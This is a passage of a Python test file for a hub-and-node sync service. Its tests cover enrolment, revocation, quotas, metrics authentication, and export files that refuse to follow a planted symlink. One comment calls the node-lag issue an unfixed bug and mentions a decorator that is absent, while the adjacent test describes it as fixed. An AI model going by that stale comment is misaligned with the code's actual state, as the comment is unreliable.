                         r"^sudo -u terril-node terril-node enrol --hub wss://127\.0\.0\.1:\d+ --code \S+ "
                         r"--fingerprint ([0-9A-F]{2}:){31}[0-9A-F]{2}$")
        # H2: the command carries this hub's pin, and the QR code encodes it.
        self.assertEqual(code["hub_fingerprint"], self.cl.hub.fingerprint)
        self.assertTrue(code["command"].endswith(" --fingerprint " + self.cl.hub.fingerprint), code["command"])
        self.assertTrue(code["command_qr_svg"].startswith("<svg "), code["command_qr_svg"][:40])
        s, err = self.hub.call("POST", "/api/v1/nodes", {"node_id": "saint-saulve-1", "centre_id": "saint-saulve"})
        self.assertEqual((s, err["code"]), (409, "exists"))
        s, err = self.hub.call("POST", "/api/v1/nodes", {"node_id": "x", "centre_id": "nulle-part"})
        self.assertEqual(s, 400, err)
        listed = {n["node_id"]: n for n in json.loads(self.cl.hub.cli("node", "list", "--json").stdout)}
        self.assertEqual(listed["saint-saulve-1"]["state"], "pending")

    # Known bug (reported, not fixed here): "En attente vers le boîtier" (nodes[].lag, and
    # terril_hub_node_lag_changes) is hub_seq - the node's acknowledged hub cursor. After a
    # node's write the hub wakes only the sessions that change is routed to, so the other
    # nodes' cursors (and the writer's own, for its echo) stay behind until the next change
    # for them: a connected, caught-up node shows changes "waiting" that will never be sent.
    # Remove the decorator once the lag counts only routed changes (or idle cursors advance).
    def test_41_caught_up_nodes_show_nothing_waiting(self):
        # Regression: an idle node's cursor stayed behind changes routed to
        # others, so a caught-up box showed changes "waiting" forever. The hub
        # now moves idle sessions over them every 5 s.
        # B registers someone for its own event: routed to the hub and B only.
        r = self.b.create("registrations", registration_body(self.events[B[0]]["id"], first="Luc", last="Dernier"))
        self.regs.append({"id": r["id"], "centre_id": B[0], "event_id": self.events[B[0]]["id"], "host": B[0],
                          "first_name": "Luc", "last_name": "Dernier", "role": "habitant", "attended": False,
                          "agglomeration": B[1]})
        wait_for(lambda: self.hub.call("GET", "/api/v1/registrations/" + r["id"])[0] == 200, what="at the hub")
        for n in self.nodes.values():
            wait_for(lambda: n.status()["pending"] == 0, what=f"{n.node_id} drained")
        def lags():
            got = {n["node_id"]: n["lag"] for n in self.hub.get("/api/v1/nodes")["items"] if n["state"] == "active"}
            return got if got == {"node-a": 0, "node-b": 0, "node-c": 0} else None
        wait_for(lags, timeout=15, what="no change waiting for caught-up nodes")

    def test_99_revoke_through_the_api_cuts_the_node(self):
        self.assertTrue(self.c.status()["connected"])
        t0 = time.time()
        s, body = self.hub.call("POST", "/api/v1/nodes/node-c/revoke")
        self.assertEqual(s, 200, body)
        self.assertEqual(body, {"node_id": "node-c", "state": "revoked"})

        def cut():
            st = self.c.status()
            return st if not st["connected"] and st["last_error"] else None
        st = wait_for(cut, timeout=5, what="node C sees it is cut off")
        print(f"\nnode C cut {time.time() - t0:.2f}s after the revocation: {st['last_error']}", file=sys.stderr)
        api_c = next(n for n in self.hub.get("/api/v1/nodes")["items"] if n["node_id"] == "node-c")
        self.assertEqual((api_c["state"], api_c["connected"]), ("revoked", False))
        self.assertEqual(self.hub.get("/api/v1/status")["connected_nodes"], 2)
        listed = {n["node_id"]: n for n in json.loads(self.cl.hub.cli("node", "list", "--json").stdout)}
        self.assertEqual(listed["node-c"]["state"], "revoked")
        # It stays cut: what it writes now never reaches the hub; the others still sync.
        note = self.c.create("prototype-notes", {"title": "Écrite après la révocation", "status": "idee"})
        other = self.a.create("prototype-notes", {"title": "Écrite par A après", "status": "idee"})
        wait_for(lambda: self.hub.call("GET", "/api/v1/prototype-notes/" + other["id"])[0] == 200, timeout=15,
                 what="A still syncs")
        time.sleep(2)
        self.assertEqual(self.hub.call("GET", "/api/v1/prototype-notes/" + note["id"])[0], 404)
        self.assertFalse(self.c.status()["connected"])
        s, err = self.hub.call("POST", "/api/v1/nodes/node-zz/revoke")
        self.assertEqual(s, 404, err)



class QuotaTest(unittest.TestCase):
    """Security review M2: events and prototype notes reach every box, so one centre's node may create
    only so many per day (`--daily-notes-per-centre`, `--daily-events-per-centre`); the change past the
    quota is rejected alone at the hub, and the node keeps and shows the refusal in French."""

    def test_M2_a_quota_refusal_is_shown_in_french_and_blocks_nothing_else(self):
        with Cluster() as c:
            c.hub.start(extra=("--daily-notes-per-centre", "2", "--daily-events-per-centre", "1"))
            a = c.add_node("quota-a", A[0])
            b = c.add_node("quota-b", B[0])
            notes = [a.create("prototype-notes", {"centre_id": A[0], "title": f"Appli {i}", "status": "idee"})
                     for i in range(3)]
            events = [a.create("events", {**event_body(f"Atelier {i}"), "centre_id": A[0]}) for i in range(2)]
            reg = a.create("registrations", registration_body(events[0]["id"]))
            wait_for(lambda: a.api.call("GET", "/api/v1/status")[1]["pending"] == 0, timeout=20)
            st = a.api.call("GET", "/api/v1/status")[1]
            refused = {r["record_id"]: r for r in st["rejections"]}
            self.assertEqual(set(refused), {notes[2]["id"], events[1]["id"]}, st["rejections"])
            for r in refused.values():
                self.assertIn("nombre maximal", r["message"])
                self.assertIn("Réessayez demain", r["message"])
            # The others reached the hub and the other centre; the registration was never held back.
            hub_notes = {row[0] for row in c.hub.db().execute("SELECT id FROM prototype_notes")}
            self.assertTrue({notes[0]["id"], notes[1]["id"]} <= hub_notes)
            self.assertNotIn(notes[2]["id"], hub_notes)
            wait_for(lambda: b.api.call("GET", "/api/v1/prototype-notes/" + notes[1]["id"])[0] == 200)
            self.assertEqual(b.api.call("GET", "/api/v1/prototype-notes/" + notes[2]["id"])[0], 404)
            self.assertEqual(c.hub.db().execute("SELECT count(*) FROM registrations WHERE id = ?",
                                                (reg["id"],)).fetchone()[0], 1)
            # Another centre has its own quota.
            b.create("prototype-notes", {"centre_id": B[0], "title": "Appli B", "status": "idee"})
            wait_for(lambda: b.api.call("GET", "/api/v1/status")[1]["pending"] == 0, timeout=20)
            self.assertEqual(b.api.call("GET", "/api/v1/status")[1]["rejections"], [])


class HubHardeningTest(unittest.TestCase):
    """Security review L7: a hub listening off loopback (0.0.0.0) serves /metrics only with the admin's
    login or the configured bearer token (`--metrics-token`); the node ids it lists stay private.
    L4: `terril-hub export -o FILE` creates FILE 0600 and never writes through a symlink."""

    TOKEN = "prom-3f9c0a7d1e"

    @classmethod
    def setUpClass(cls):
        cls.root = tempfile.mkdtemp(prefix="terril-metrics-")
        cls.hub = Hub(cls.root)
        cls.hub.cli("node", "add", "node-secret-id", "--centre", "denain-tonini")
        cls.process = Process([HUB_BIN, "serve", "--listen", "0.0.0.0:0", "--metrics-token", cls.TOKEN]
                              + cls.hub.base_args(), os.path.join(cls.root, "hub.log")).start()
        cls.client = HubClient(cls.process.port)

    @classmethod
    def tearDownClass(cls):
        cls.process.stop()
        shutil.rmtree(cls.root, ignore_errors=True)

    def test_L7_metrics_off_loopback_need_the_token_or_a_login(self):
        for headers in ({}, {"Authorization": "Bearer wrong-token"}, {"Authorization": self.TOKEN},
                        {"Authorization": "Bearer " + self.TOKEN + "x"}, {"Authorization": "Basic " + self.TOKEN}):
            s, h, body = self.client.request("GET", "/metrics", headers=headers, cookie="")
            self.assertEqual(s, 401, headers)
            self.assertEqual(json.loads(body)["code"], "unauthenticated")
            self.assertEqual(h.get("www-authenticate"), "Bearer")
            self.assertNotIn(b"node-secret-id", body)
        s, h, body = self.client.request("GET", "/metrics", headers={"Authorization": "Bearer " + self.TOKEN},
                                         cookie="")
        self.assertEqual(s, 200, body)
        self.assertIn("text/plain", h["content-type"])
        self.assertRegex(body.decode(), r"(?m)^terril_hub_connected_nodes 0$")
        # The dashboard's login opens it too.
        s, _, _ = self.client.login()
        self.assertEqual(s, 200)
        s, _, body = self.client.request("GET", "/metrics")
        self.assertEqual(s, 200, body)
        self.assertIn(b"terril_hub_connected_nodes", body)
        # /healthz stays open.
        s, _, body = self.client.request("GET", "/healthz", cookie="")
        self.assertEqual((s, body.strip()), (200, b"ok"))

    def test_L4_export_file_is_created_0600_and_never_through_a_symlink(self):
        def export(path):
            return subprocess.run([HUB_BIN, "export", "--entity", "centres", "--format", "csv", "-o", path,
                                   "--data-dir", self.hub.dir, "--config", "/dev/null"],
                                  capture_output=True, text=True, timeout=60, umask=0o022)
        out = os.path.join(self.root, "centres.csv")
        p = export(out)
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertEqual(stat.S_IMODE(os.lstat(out).st_mode), 0o600)
        self.assertTrue(open(out, "rb").read().startswith(b"\xef\xbb\xbf"))
        os.chmod(out, 0o644)  # an older, wider file is narrowed
        self.assertEqual(export(out).returncode, 0)
        self.assertEqual(stat.S_IMODE(os.lstat(out).st_mode), 0o600)
        victim = os.path.join(self.root, "victim.txt")
        with open(victim, "w") as f:
            f.write("not an export\n")
        os.chmod(victim, 0o644)
        link = os.path.join(self.root, "planted.csv")
        os.symlink(victim, link)
        p = export(link)
        self.assertNotEqual(p.returncode, 0)
        self.assertIn("cannot write " + link, p.stderr)
        with open(victim) as f:
            self.assertEqual(f.read(), "not an export\n")
        self.assertEqual(stat.S_IMODE(os.stat(victim).st_mode), 0o644)


if __name__ == "__main__":
    unittest.main()
